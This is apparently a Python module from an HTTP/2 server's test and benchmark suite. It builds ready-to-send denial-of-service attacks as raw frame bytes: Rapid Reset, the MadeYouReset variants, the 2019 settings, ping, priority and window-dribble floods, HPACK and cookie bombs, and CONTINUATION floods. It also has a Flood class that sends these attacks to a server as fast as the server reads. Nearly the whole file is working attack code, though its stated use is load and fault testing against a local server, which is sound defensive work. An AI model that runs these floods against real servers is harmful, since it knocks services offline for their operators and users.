# SPDX-License-Identifier: MIT
"""h2_attacks - attacks on HTTP/2 servers, made as bytes beforehand, so that sending them costs little.

tests/fault/h2_abuse.py sends each once and looks at what became of it; bench/attacks sends them for a
while, to brim and to others. An attack is a function of ATTACKS; it gives a Script: what a connection
begins with, then pieces, which may be sent over and over or (their streams are used up) once.
"""

import itertools
import select
import socket
import time
from typing import NamedTuple

from h2_client import DATA, GOAWAY, HEADERS, PING, PREFACE, RESET, SETTINGS, WINDOW, frame, literal

PRIORITY, PUSH_PROMISE, CONTINUATION = 2, 5, 9
ACK = END_STREAM = 1
END_HEADERS, PADDED = 4, 8
WHOLE = END_STREAM | END_HEADERS
TABLE_SIZE, INITIAL_WINDOW = 1, 4
STREAMS = 4000  # that an attack opens on one connection, one after the other
PIECE = 500     # attacks in one piece
FIRST = 3       # stream 1 may be taken: see Script.opening
FULL_WINDOW = (1 << 31) - 1
FIELD_BYTES = 3900  # of a field for the dynamic table, whose 4,096 bytes hold just one


class Script(NamedTuple):
    """Of a connection; units are what is counted: a frame, or a stream with its frames."""
    pieces: list
    units: int        # in one piece
    repeats: bool     # the pieces may be sent again
    setup: bytes = b""
    window: int = 65535
    opens: bool = True  # stream 1 is left to the caller, who keeps it open or does not

    def opening(self, first=b""):
        """first: frames for stream 1."""
        return (PREFACE + settings((INITIAL_WINDOW, self.window)) + update(0, 1 << 30)
                + (first if self.opens else b"") + self.setup)


# ---- frames ----

def word(number):
    return number.to_bytes(4, "big")


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(
        name.to_bytes(2, "big") + word(value) for name, value in pairs))


def update(stream, step):
    return frame(WINDOW, 0, stream, word(step))


def reset(stream):
    return frame(RESET, 0, stream, word(8))


def ping(number=0):
    return frame(PING, 0, 0, number.to_bytes(8, "big"))


def priority(stream, parent, weight=15):
    return frame(PRIORITY, 0, stream, word(parent) + bytes([weight]))


def block(path="/", method="GET"):
    """HPACK of the four pseudo-fields; nothing enters the dynamic table."""
    return (b"\x02" + literal(method) + b"\x86\x04" + literal(path) + b"\x01" + literal("a"))


def get(stream, path="/"):
    """A '#' in the path becomes the stream's number: each request asks for something else."""
    return frame(HEADERS, WHOLE, stream, block(path.replace("#", str(stream))))


def post(stream, path="/", fields=b""):
    """A request whose body is to come."""
    return frame(HEADERS, END_HEADERS, stream, block(path, "POST") + fields)


def kept_field(name, value):
    """A field that enters the dynamic table, where it is 62 (0xbe) from then on."""
    length, rest = b"\x7f", len(value) - 127
    while rest >= 0x80:
        length, rest = length + bytes([rest & 0x7f | 0x80]), rest >> 7
    return b"\x40" + literal(name) + length + bytes([rest]) + value


def split_block(stream, whole, flags=0, step=16384):
    """One header block in as many frames as it needs."""
    parts = [whole[at:at + step] for at in range(0, len(whole), step)]
    frames = [frame(HEADERS if at == 0 else CONTINUATION,
                    (flags if at == 0 else 0) | (END_HEADERS if at == len(parts) - 1 else 0),
                    stream, part) for at, part in enumerate(parts)]
    return b"".join(frames)


# ---- scripts ----

def stream_numbers(count=STREAMS):
    return range(FIRST, FIRST + 2 * count, 2)


def per_stream(make, streams=STREAMS, piece=PIECE, **more):
    """make(stream) for one stream after the other; once."""
    frames = [make(stream) for stream in stream_numbers(streams)]
    return Script([b"".join(frames[at:at + piece]) for at in range(0, streams, piece)],
                  min(piece, streams), False, **more)


def over_and_over(*frames, **more):
    """The same frames in turns, without end."""
    return Script([b"".join(itertools.islice(itertools.cycle(frames), PIECE))], PIECE, True, **more)


ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


@attack
def rapid_reset(path="/"):
    """CVE-2023-44487: each request is taken back at once, which no limit of open streams sees."""
    return per_stream(lambda stream: get(stream, path) + reset(stream))


@attack
def made_reset_zero_update(path="/"):
    """CVE-2025-8671: the server is made to reset; here by a window update of nothing."""
    return per_stream(lambda stream: get(stream, path) + update(stream, 0))


@attack
def made_reset_window_overflow(path="/"):
    """CVE-2025-8671, by a window beyond 2^31 - 1."""
    return per_stream(lambda stream: get(stream, path) + update(stream, FULL_WINDOW))


@attack
def made_reset_half_closed(path="/"):
    """CVE-2025-8671, by a body on a stream that has ended."""
    return per_stream(lambda stream: get(stream, path) + frame(DATA, 0, stream, b"x"))


@attack
def made_reset_second_headers(path="/"):
    """CVE-2025-8671, by a second header block on a stream that has ended."""
    return per_stream(lambda stream: get(stream, path) + get(stream, path))


@attack
def made_reset_content_length(path="/"):
    """CVE-2025-8671, by a body that is shorter than its Content-Length."""
    length = b"\x0f\x0d\x01\x35"
    return per_stream(lambda stream: post(stream, path, length)
                      + frame(DATA, END_STREAM, stream, b"x"))


@attack
def made_reset_too_many(path="/"):
    """Streams beyond the number allowed, each of which is refused with a reset."""
    return per_stream(lambda stream: post(stream, path))


@attack
def made_reset_malformed(path="/"):
    """Requests without a method: malformed, so each is reset."""
    bad = b"\x86\x04" + literal(path)
    return per_stream(lambda stream: frame(HEADERS, WHOLE, stream, bad))


@attack
def self_dependency(path="/"):
    """CVE-2025-8671, by a stream that depends on itself. RFC 9113 lets a server ignore it."""
    return per_stream(lambda stream: get(stream, path) + priority(stream, stream))


@attack
def settings_flood(_path="/"):
    """CVE-2019-9515: each is to be acknowledged."""
    return over_and_over(settings())


@attack
def settings_table_size(_path="/"):
    """The header table of responses is emptied and grown, by turns."""
    return over_and_over(settings((TABLE_SIZE, 0)), settings((TABLE_SIZE, 4096)),
                         settings((TABLE_SIZE, 0xffffffff)))


@attack
def settings_windows(path="/"):
    """The windows of a hundred streams are to be moved with each, of many values a frame."""
    full = settings(*((INITIAL_WINDOW, number % 2) for number in range(2000)))
    return Script([full * 20], 20, True, window=0,
                  setup=b"".join(get(stream, path) for stream in stream_numbers(90)))


@attack
def ping_flood(_path="/"):
    """CVE-2019-9512: each is to be answered."""
    return over_and_over(ping())


@attack
def priority_flood(path="/"):
    """CVE-2019-9513: the tree of streams is turned around and around."""
    tree = [frame_ for stream in stream_numbers(40)
            for frame_ in (priority(stream, 1, 255), priority(stream, stream - 2 or 1, 0))]
    return over_and_over(*tree, setup=b"".join(get(stream, path) for stream in stream_numbers(40)),
                         window=0)


@attack
def empty_data(path="/"):
    """CVE-2019-9518: frames of a body that carry none of it."""
    return over_and_over(frame(DATA, 0, FIRST), setup=post(FIRST, path))


@attack
def padded_data(path="/"):
    """The same, with padding in them."""
    return over_and_over(frame(DATA, PADDED, FIRST, b"\x04\0\0\0\0"), setup=post(FIRST, path))


@attack
def empty_continuation(path="/"):
    """CERT VU#421644: a header block that goes on and on, by frames of nothing."""
    return over_and_over(frame(CONTINUATION, 0, FIRST),
                         setup=frame(HEADERS, END_STREAM, FIRST, block(path)))


@attack
def endless_continuation(path="/"):
    """CERT VU#421644: and by frames of fields."""
    fields = (b"\x10" + literal("x") + literal("y" * 100)) * 150
    return Script([frame(CONTINUATION, 0, FIRST, fields[:16000]) * 10], 10, True,
                  setup=frame(HEADERS, END_STREAM, FIRST, block(path)))


@attack
def hpack_bomb(path="/"):
    """CVE-2016-6581: one byte in a header block is a field of 4 KiB."""
    bomb = block(path) + b"\xbe" * 16000
    first = frame(HEADERS, WHOLE, FIRST, block(path) + kept_field("x", b"v" * FIELD_BYTES))
    return per_stream(lambda stream: split_block(stream + 2, bomb, END_STREAM), setup=first,
                      streams=90, piece=10)


@attack
def hpack_small_bombs(path="/"):
    """The same with fewer fields than anybody would end a connection for."""
    bomb = block(path) + b"\xbe" * 400
    first = frame(HEADERS, WHOLE, FIRST, block(path) + kept_field("x", b"v" * FIELD_BYTES))
    return per_stream(lambda stream: frame(HEADERS, WHOLE, stream + 2, bomb), setup=first,
                      streams=1800, piece=90)


@attack
def cookie_crumbs(path="/"):
    """The same with a field that servers put together again, into one of megabytes."""
    bomb = block(path) + b"\xbe" * 400
    first = frame(HEADERS, WHOLE, FIRST, block(path) + kept_field("cookie", b"v" * FIELD_BYTES))
    return per_stream(lambda stream: frame(HEADERS, WHOLE, stream + 2, bomb), setup=first,
                      streams=1800, piece=90)


@attack
def table_updates(path="/"):
    """A header block of nothing but changes of the table's size."""
    return per_stream(lambda stream: split_block(stream, b"\x20\x3f\xe1\x1f" * 4000 + block(path)),
                      streams=90, piece=10)


@attack
def nameless_fields(path="/"):
    """CVE-2019-9516: fields without a name and a value, for which memory is taken all the same."""
    fields = block(path) + b"\x40\0\0" * 50
    return per_stream(lambda stream: frame(HEADERS, WHOLE, stream, fields), streams=1800, piece=90)


@attack
def window_updates(_path="/"):
    """Window updates of the connection, by one byte each."""
    return over_and_over(update(0, 1))


@attack
def data_dribble(path="/"):
    """CVE-2019-9511: windows of many responses are opened by one byte at a time."""
    numbers = stream_numbers(50)
    return over_and_over(*(update(stream, 1) for stream in numbers), window=0,
                         setup=b"".join(get(stream, path) for stream in numbers))


@attack
def unknown_frames(_path="/"):
    """Frames of types that nobody knows: to be ignored, but not for nothing."""
    return over_and_over(*(frame(kind, 0, 0, b"12345") for kind in (0x42, 0x0b, 0xff)))


@attack
def goaway_flood(_path="/"):
    """A goodbye that does not go."""
    return over_and_over(frame(GOAWAY, 0, 0, word(0) + word(0)))


@attack
def late_resets(path="/"):
    """Resets of streams that have long ended."""
    return over_and_over(*(reset(stream) for stream in stream_numbers(20)),
                         setup=b"".join(get(stream, path) for stream in stream_numbers(20)))


# ---- sending ----

class Flood:
    """One connection that attacks: sends as fast as the server reads, and hears what it says."""

    def __init__(self, port, script, source="127.0.0.1", first=b"", receive_buffer=0):
        self.script = script
        self.sock = socket.socket()
        if receive_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.bind((source, 0))
        self.sock.connect(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.is_cut = False
        self.goaway = None  # error of the last one
        self.goaways = 0
        self.resets = 0
        self.answered = set()  # streams with a response
        self.fine = set()      # with status 200
        self.pongs = 0
        self.units = 0
        self.heard = b""
        self.out = memoryview(script.opening(first))

    def close(self):
        self.sock.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def hear(self):
        """Takes what has come."""
        try:
            piece = self.sock.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            piece = b""
        if not piece:
            self.is_cut = True
            return
        self.heard += piece
        at = 0
        while len(self.heard) - at >= 9:
            size = int.from_bytes(self.heard[at:at + 3], "big")
            if len(self.heard) - at < 9 + size:
                break
            self.on_frame(self.heard[at + 3], self.heard[at + 4],
                          int.from_bytes(self.heard[at + 5:at + 9], "big"),
                          self.heard[at + 9:at + 9 + size])
            at += 9 + size
        self.heard = self.heard[at:]

    def on_frame(self, kind, flags, stream, payload):
        if kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
            self.goaways += 1
        elif kind == RESET:
            self.resets += 1
        elif kind == HEADERS:
            self.answered.add(stream)
            if payload[:1] == b"\x88":
                self.fine.add(stream)
        elif kind == PING and flags & ACK and payload == b"\xff" * 8:
            self.pongs += 1

    def step(self, wait_ms, reads=True):
        """Sends and hears once; False if nothing was possible within the time."""
        poll = select.poll()
        poll.register(self.sock, (select.POLLIN if reads else select.POLLRDHUP)
                      | (select.POLLOUT if self.out else 0))
        ready = dict(poll.poll(wait_ms)).get(self.sock.fileno(), 0)
        if ready & (select.POLLIN | select.POLLRDHUP | select.POLLHUP | select.POLLERR):
            if reads:
                self.hear()
            else:
                self.is_cut = True
        if ready & select.POLLOUT and not self.is_cut:
            try:
                self.out = self.out[self.sock.send(self.out):]
            except BlockingIOError:
                pass
            except OSError:
                self.is_cut = True
        return bool(ready)

    def run(self, units_max, patience_s=30, reads=True):
        """Sends up to so many units; True if the server has ended the connection meanwhile."""
        pieces = itertools.cycle(self.script.pieces) if self.script.repeats else iter(
            self.script.pieces)
        deadline = time.monotonic() + patience_s
        while not self.is_cut and time.monotonic() < deadline:
            if not self.out:
                piece = next(pieces, None) if self.units < units_max else None
                if piece is None:
                    break
                self.out = memoryview(piece)
                self.units += self.script.units
            self.step(1000, reads)
        return self.is_cut

    def send(self, more):
        """Behind what is still to be sent; until it has left, or the server has ended it."""
        self.out = memoryview(bytes(self.out) + more)
        while self.out and not self.is_cut:
            self.step(1000)

    def settle(self, patience_s=30):
        """Until the server has looked at everything, or has ended the connection: True."""
        if not self.is_cut:
            self.out = memoryview(bytes(self.out) + frame(PING, 0, 0, b"\xff" * 8))
        return self.wait(lambda: self.pongs > 0, patience_s)

    def wait(self, condition, patience_s=30, reads=True):
        """Until the condition holds or the connection has ended: True."""
        deadline = time.monotonic() + patience_s
        while not self.is_cut and not condition():
            if time.monotonic() > deadline:
                return False
            self.step(100, reads)
        return True
